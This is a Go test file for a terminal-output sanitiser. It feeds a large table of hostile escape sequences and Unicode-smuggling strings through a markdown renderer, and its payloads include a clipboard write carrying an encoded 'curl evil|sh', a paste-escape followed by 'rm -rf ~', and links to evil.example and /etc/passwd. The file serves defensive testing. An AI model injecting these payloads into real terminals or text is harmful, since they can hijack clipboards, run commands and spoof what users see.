package safe

import (
	"fmt"
	"regexp"
	"strconv"
	"strings"
	"testing"
	"unicode"
	"unicode/utf8"

	"charm.land/glamour/v2"
)

// attacks are what hostile text tries. Each row is one payload.
var attacks = []struct{ name, payload string }{
	{"OSC 52 writes the clipboard", "\x1b]52;c;Y3VybCBldmlsfHNo\a"},
	{"OSC 52 ended by ST", "\x1b]52;c;Y3VybCBldmlsfHNo\x1b\\"},
	{"OSC 52 reads the clipboard", "\x1b]52;c;?\a"},
	{"OSC 0 sets the title", "\x1b]0;pwned\a"},
	{"OSC 2 ended by ST", "\x1b]2;pwned\x1b\\"},
	{"OSC 8 with an evil scheme", "\x1b]8;;javascript:alert(1)\aclick\x1b]8;;\a"},
	{"OSC 8 to a file", "\x1b]8;;file:///etc/passwd\x1b\\click\x1b]8;;\x1b\\"},
	{"OSC 8 in our own form", "\x1b]8;id=7;https://evil.example/\x1b\\click\x1b]8;;\x1b\\"},
	{"OSC 9 notifies", "\x1b]9;you won\a"},
	{"OSC 10 asks for a colour", "\x1b]10;?\a"},
	{"OSC 4 sets a colour", "\x1b]4;1;rgb:00/00/00\x1b\\"},
	{"OSC 7 sets the directory", "\x1b]7;file:///tmp\a"},
	{"OSC 50 sets the font", "\x1b]50;#3\a"},
	{"OSC 133 marks a prompt", "\x1b]133;A\a"},
	{"OSC 777 notifies", "\x1b]777;notify;t;b\a"},
	{"OSC 1337 writes a file", "\x1b]1337;File=name=eA==;inline=1:AAAA\a"},
	{"OSC without end", "\x1b]0;swallow"},
	{"DCS asks for a setting", "\x1bP$q\"p\x1b\\"},
	{"DCS user keys", "\x1bP0;1|17/6c73\x1b\\"},
	{"DCS tmux passthrough", "\x1bPtmux;\x1b\x1b]0;x\a\x1b\\"},
	{"DCS without end", "\x1bP swallow"},
	{"sixel", "\x1bPq#0;2;0;0;0#0~~@@vv$-\x1b\\"},
	{"APC, a kitty picture", "\x1b_Gf=24,s=1,v=1;AAAA\x1b\\"},
	{"PM", "\x1b^private\x1b\\"},
	{"SOS", "\x1bXstring\x1b\\"},
	{"CSI moves the cursor up", "\x1b[5A\x1b[2Kgone"},
	{"CSI clears the screen", "\x1b[2J\x1b[H"},
	{"CSI clears the history", "\x1b[3J"},
	{"CSI scrolls", "\x1b[9T\x1b[1;2r"},
	{"CSI inserts", "\x1b[4h\x1b[9L"},
	{"CSI repeats", "X\x1b[99999b"},
	{"CSI cut short", "\x1b[31"},
	{"DECSET leaves the alternate screen", "\x1b[?1049l"},
	{"DECSET mouse", "\x1b[?1003h"},
	{"DECSET hides the cursor", "\x1b[?25l"},
	{"bracketed paste end", "\x1b[201~rm -rf ~\n"},
	{"bracketed paste off", "\x1b[?2004l"},
	{"window manipulation", "\x1b[8;1;1t\x1b[21t"},
	{"device attributes query", "\x1b[c\x1b[>c\x1b[=c\x1bZ"},
	{"status query", "\x1b[5n\x1b[6n"},
	{"answerback", "\x05"},
	{"key mode", "\x1b[>4;2m\x1b[>1u"},
	{"reset", "\x1bc\x1b[!p"},
	{"character sets", "\x1b(0\x0e lqk"},
	{"alignment test", "\x1b#8"},
	{"conceal and blink", "\x1b[8mhidden\x1b[5mblink\x1b[6mfast"},
	{"fake prompt in colour", "\x1b[38;5;201mroot# "},
	{"fake prompt, colons", "\x1b[38:5:201mroot# "},
	{"C1 CSI in UTF-8", "\u009b2J"},
	{"C1 OSC in UTF-8", "\u009d0;pwned\u009c"},
	{"C1 DCS in UTF-8", "\u0090q~\u009c"},
	{"C1 CSI raw", "\x9b2J"},
	{"C1 OSC raw", "\x9d0;pwned\x9c"},
	{"C1 APC without end", "\u009fswallow"},
	{"BEL", "\a\a\a"},
	{"backspaces overwrite", "safe\b\b\b\bevil"},
	{"CR overwrites", "safe words\revil"},
	{"VT and FF", "a\vb\fc"},
	{"DEL and NUL", "a\x7fb\x00c"},
	{"broken UTF-8", "\xc3\x28\xf0\x9f\xff\xed\xa0\x80"},
	{"direction override", "access\u202e tpircs\u202c"},
	{"direction isolates", "\u2066a\u2067b\u2068c\u2069"},
	{"direction marks", "a\u200eb\u200fc\u061cd"},
	{"zero width", "pay\u200bpal\u2060\ufeff"},
	{"joiners", "pay\u200cpal\u200d"},
	{"soft hyphen and fillers", "a\u00adb\u3164c\u115f\uffa0"},
	{"tag smuggling", "a\U000e0069\U000e0067\U000e006e\U000e007f"},
	{"selector smuggling", "a\ufe00\ufe01\U000e0100\U000e01ef"},
	{"emoji selector smuggling", "😀\ufe0e\ufe0f\ufe0e\ufe0f"},
	{"stacked marks", "z" + strings.Repeat("\u0321\u0322", 40)},
	{"private use", "\ue000\U000f0000"},
	{"annotation", "\ufff9a\ufffab\ufffb"},
	{"reference", "&#27;[2J"},
	{"reference, hexadecimal", "&#x1b;[2J"},
	{"reference, capital X and zeros", "&#X00001B;]0;pwned&#7;"},
	{"reference, C1", "&#155;2J"},
	{"reference, C1 hexadecimal", "&#x9b;2J"},
	{"reference, no semicolon", "&#27[2J"},
	{"reference, octal", "&#033;[2J"},
	{"reference that wraps around", "&#4294967323;[2J"},
	{"reference, link in our own form", "&#27;]8;id=7;https://evil.example/&#27;\\click"},
	{"reference, colour", "&#27;[38;5;201mroot# "},
	{"reference, string without end", "&#27;P swallow"},
	{"reference, names", "a&lrm;b&rlm;c&shy;d&zwj;e&zwnj;f&ZeroWidthSpace;g&NoBreak;h&af;i&ic;"},
	{"reference, numbers of invisible ones", "a&#8238;b&#x202e;c&#8203;d&#xfeff;e&#xE0041;f"},
	{"reference split by emphasis", "~~&#2*7*;[38;5;201m~~ &#2**7**;[38;5;201m &**#27;**[38;5;201m"},
	{"reference split by markup", "&#2<b></b>7;[38;5;201m <p>&#2<i></i>7;[38;5;201m</p>"},
	{"reference escaped twice", "&amp;#27;[2J &AMP;#27;[2J &#38;#27;[2J"},
}

type place struct{ name, text string }

// places are where in markdown a payload can stand; @ is the payload.
var places = []place{
	{"plain", "head @ tail"},
	{"start", "@ tail"},
	{"heading", "# head @ tail"},
	{"small heading", "### head @ tail"},
	{"setext heading", "head @ tail\n==="},
	{"emphasis", "head *@* tail"},
	{"strong", "head **@** tail"},
	{"struck", "head ~~@~~ tail"},
	{"code span", "head `@` tail"},
	{"fence", "```\nhead @ tail\n```"},
	{"fence in Go", "```go\nhead := \"@\" // tail\n```"},
	{"fence with an unknown language", "```@\nhead tail\n```"},
	{"open fence", "```sh\necho head @ tail"},
	{"indented code", "    head @ tail"},
	{"link text", "head [@](https://a.example/) tail"},
	{"link target", "head [text](https://a.example/@) tail"},
	{"link target in brackets", "head [text](<@>) tail"},
	{"link title", "head [text](https://a.example/ \"@\") tail"},
	{"reference link", "head [text][ref] tail\n\n[ref]: https://a.example/@ \"@\""},
	{"autolink", "head <https://a.example/@> tail"},
	{"bare link", "head https://a.example/@ tail"},
	{"image", "head ![@](https://a.example/x.png) tail"},
	{"image target", "head ![alt](https://a.example/@.png) tail"},
	{"table head", "| @ | tail |\n|---|---|\n| head | b |"},
	{"table cell", "| a | b |\n|---|---|\n| head @ | tail |"},
	{"link in a table", "| a | b |\n|---|---|\n| [@](https://a.example/@) | tail |"},
	{"list", "- head\n- @ tail"},
	{"ordered list", "1. head\n2. @ tail"},
	{"task", "- [ ] head @ tail"},
	{"quote", "> head @ tail"},
	{"nested", "> - head\n>   > **@** tail"},
	{"HTML span", "head <b title=\"@\">@</b> tail"},
	{"HTML block", "<div>\nhead @ tail\n</div>"},
	{"HTML comment", "<!-- @ -->\n\nhead tail"},
	{"definition", "term\n: head @ tail"},
	{"footnote", "head[^1] tail\n\n[^1]: @"},
}

func identity(s string) string { return s }

func cleaned(s string) string { return Clean(s).String() }

// attack tries every payload in the given places and gives the cells in which something got through.
func attack(t *testing.T, places []place, first, second func(string) string) []string {
	t.Helper()
	renderer, err := glamour.NewTermRenderer(glamour.WithStandardStyle("dark"), glamour.WithWordWrap(0))
	if err != nil {
		t.Fatalf("new renderer: %v", err)
	}
	render := func(text string) string {
		out, err := renderer.Render(first(text))
		if err != nil {
			t.Fatalf("render %+q: %v", text, err)
		}
		return second(out)
	}
	var leaks []string
	for _, place := range places {
		showsTail := func(harmless string) bool {
			return strings.Contains(render(strings.ReplaceAll(place.text, "@", harmless)), "tail")
		}
		tail, tailAfterBar := showsTail("x"), showsTail("x|x") // a bar opens another cell of a table
		for _, a := range attacks {
			out := render(strings.ReplaceAll(place.text, "@", a.payload))
			what := forbiddenIn(out)
			switch {
			case what != "":
			case strings.Contains(out, "38;5;201m") && attackersStyle.MatchString(out), strings.Contains(out, "\x1b[38:5:201m"):
				what = "a style of the attacker's"
			case attackersLink.MatchString(out):
				what = "a link of the attacker's"
			case (tailAfterBar || tail && !strings.Contains(a.payload, "|")) && !strings.Contains(out, "tail"):
				what = "swallowed text"
			default:
				continue
			}
			leaks = append(leaks, fmt.Sprintf("%s in %s: %s in %+q", a.name, place.name, what, out))
		}
	}
	return leaks
}

var (
	attackersStyle = regexp.MustCompile(`\x1b\[[0-9;]*38;5;201m`)
	attackersLink  = regexp.MustCompile(`\x1b\]8;[^;]*;https://evil`)
	ownSequence    = regexp.MustCompile(`\x1b\[([0-9;:]*)m|\x1b\]8;id=[0-9]+;(?:https?://|mailto:)[!-~]+\x1b\\|\x1b\]8;;\x1b\\`)
)

// forbiddenIn finds the first thing in out that must not reach a terminal. It is written apart from the package's own
// tables and parser so that it does not share their mistakes.
func forbiddenIn(out string) string {
	for _, m := range ownSequence.FindAllStringSubmatch(out, -1) {
		if code := forbiddenStyle(m[1]); code != "" {
			return "style " + code
		}
	}
	rest := ownSequence.ReplaceAllString(out, "")
	if !utf8.ValidString(rest) {
		return "broken UTF-8"
	}
	marks := 0
	for i, r := range rest {
		switch {
		case r == 0xFE0E, r == 0xFE0F: // a mark by category, but nothing is drawn for it
		case unicode.Is(unicode.M, r):
			marks++
		default:
			marks = 0
		}
		switch {
		case r == '\n', r == ' ':
		case r == 0x200D, r == 0x200C, r == 0xFE0F, r == 0xFE0E:
			if before, _ := utf8.DecodeLastRuneInString(rest[:i]); before < 0x80 && !strings.ContainsRune("0123456789#*", before) {
				return fmt.Sprintf("%U after %q", r, before)
			}
		case unicode.In(r, unicode.Cc, unicode.Co, unicode.Cs, unicode.Zl, unicode.Zp, unicode.Variation_Selector, unicode.Noncharacter_Code_Point,
			unicode.Bidi_Control, unicode.Other_Default_Ignorable_Code_Point):
			return fmt.Sprintf("%U", r)
		case unicode.Is(unicode.Cf, r) && !unicode.Is(unicode.Prepended_Concatenation_Mark, r) && !(r >= 0x13430 && r <= 0x1343F):
			if r >= 0xE0020 && r <= 0xE007F && strings.ContainsRune(rest, '🏴') {
				continue
			}
			return fmt.Sprintf("%U", r)
		case marks > 8:
			return "stacked marks"
		}
	}
	return ""
}

func forbiddenStyle(parameters string) string {
	codes := strings.Split(parameters, ";")
	for i := 0; i < len(codes); i++ {
		code, _, _ := strings.Cut(codes[i], ":")
		switch n, _ := strconv.Atoi(code); n {
		case 38, 48, 58:
			if !strings.Contains(codes[i], ":") && i+1 < len(codes) {
				i += map[string]int{"5": 2, "2": 4}[codes[i+1]]
			}
		case 5, 6, 8, 10, 11, 12, 13, 14, 15, 16, 17, 18, 19, 20, 25, 26, 28, 50:
			return parameters
		}
	}
	return ""
}

func TestX01NothingPassesBothGates(t *testing.T) {
	if testing.Short() {
		t.Skip("takes long and has one goroutine: left to the run without the race detector")
	}
	t.Parallel()
	for _, leak := range attack(t, places, cleaned, Filter) {
		t.Error(leak)
	}
}

func TestX01EachGateIsNeeded(t *testing.T) {
	if testing.Short() {
		t.Skip("takes long and has one goroutine: left to the run without the race detector")
	}
	t.Parallel()
	var few []place // some of each kind
	for i := 2; i < len(places); i += 3 {
		few = append(few, places[i])
	}
	for name, gates := range map[string][2]func(string) string{
		"without the first gate":  {identity, Filter},
		"without the second gate": {cleaned, identity},
		"without both":            {identity, identity},
	} {
		leaks := attack(t, few, gates[0], gates[1])
		t.Logf("%s: %d of %d cells leak", name, len(leaks), len(attacks)*len(few))
		if len(leaks) == 0 {
			t.Errorf("%s nothing leaks: the grid proves nothing", name)
		}
	}
}

// What glamour adds on its own apart (links), its output is clean before the filter sees it.
func TestX01FirstGateLeavesNothingToDecode(t *testing.T) {
	if testing.Short() {
		t.Skip("takes long and has one goroutine: left to the run without the race detector")
	}
	t.Parallel()
	links := regexp.MustCompile(`\x1b\]8;[^\a\x1b]*\a`)
	for _, leak := range attack(t, places, cleaned, func(s string) string { return links.ReplaceAllString(s, "") }) {
		t.Error(leak)
	}
}
